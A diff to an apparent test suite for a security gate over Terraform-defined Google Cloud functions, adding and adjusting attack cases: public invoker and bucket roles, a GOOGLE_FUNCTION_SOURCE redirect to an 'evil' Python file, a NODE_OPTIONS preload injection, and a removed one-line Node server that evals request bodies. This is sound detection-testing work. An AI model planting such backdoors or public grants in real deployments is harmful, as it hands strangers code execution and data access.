@@ -70,7 +70,11 @@ const callers: readonly GateAttack[] = [
   ),
   changed(
     'a function that everybody may call, and not only accounts of Google',
-    { ...open, 'g/main.tf': gen2() + invoker('"allAuthenticatedUsers"') },
+    {
+      'g/main.tf': gen2() + invoker('"allAuthenticatedUsers"'),
+      'g/code/index.js':
+        "const { Storage } = require('@google-cloud/storage');\nexports.handler = async (req, res) => res.send(await new Storage().bucket('files').getFiles());\n",
+    },
     { edits: tf(['"allAuthenticatedUsers"', all]) },
     /Anyone can call Door/,
   ),
@@ -127,7 +131,7 @@ const callers: readonly GateAttack[] = [
         `variable "open" {}\n${invoker(all, 'Door', '  count = var.open ? 1 : 0\n')}resource "google_service_account"`,
       ]),
     },
-    found,
+    foundOrLost,
   ),
   changed(
     'members from a file of JSON',
@@ -267,13 +271,13 @@ const roles: readonly GateAttack[] = [
     'a bucket that everybody may read becomes one that everybody may write',
     { ...open, 'g/bucket.tf': bucket('roles/storage.objectViewer', all) },
     { files: { 'g/bucket.tf': bucket('roles/storage.objectAdmin', all) } },
-    /Anyone can/,
+    /Anyone may use/,
   ),
   changed(
     'a bucket that accounts of Google may write becomes one for everybody',
     { ...open, 'g/bucket.tf': bucket('roles/storage.objectAdmin', '"allAuthenticatedUsers"') },
     { files: { 'g/bucket.tf': bucket('roles/storage.objectAdmin', all) } },
-    /Anyone can/,
+    /Anyone may use/,
   ),
 ];
 
@@ -305,13 +309,16 @@ const code: readonly GateAttack[] = [
   ),
   changed(
     'a build variable that names another file',
-    open,
+    {
+      'g/main.tf': gen2('Door', '', '', 'python313') + invoker(all),
+      'g/code/main.py': harmlessPython,
+    },
     {
       edits: tf([
         '    source {',
-        '    environment_variables = { GOOGLE_FUNCTION_SOURCE = "real.js" }\n    source {',
+        '    environment_variables = { GOOGLE_FUNCTION_SOURCE = "real.py" }\n    source {',
       ]),
-      files: { 'g/code/real.js': evil },
+      files: { 'g/code/real.py': evilPython },
     },
     foundOrLost,
   ),
@@ -321,12 +328,8 @@ const code: readonly GateAttack[] = [
     {
       edits: tf([
         '    service_account_email',
-        '    environment_variables = { NODE_OPTIONS = "--require ./real.js" }\n    service_account_email',
+        '    environment_variables = { NODE_OPTIONS = "--require /workspace/vendor/real.js" }\n    service_account_email',
       ]),
-      files: {
-        'g/code/real.js':
-          "require('http').createServer((q, r) => q.on('data', (d) => eval(`${d}`))).listen(1);\n",
-      },
     },
     foundOrLost,
   ),
@@ -471,13 +474,7 @@ const files: readonly GateAttack[] = [
     'a module from another repository',
     inModule,
     { files: { 'g/main.tf': callsModule(false, 'git::https://example.com/fn.git') } },
-    notRead,
-  ),
-  changed(
-    'a configuration with another ending',
-    open,
-    { moved: [['g/main.tf', 'g/main.tf.bak']], files: { 'g/code/index.js': evil } },
-    /not read:|Removed in this change/,
+    /not read:|run code in/,
   ),
   changed(
     'a configuration with a syntax error',
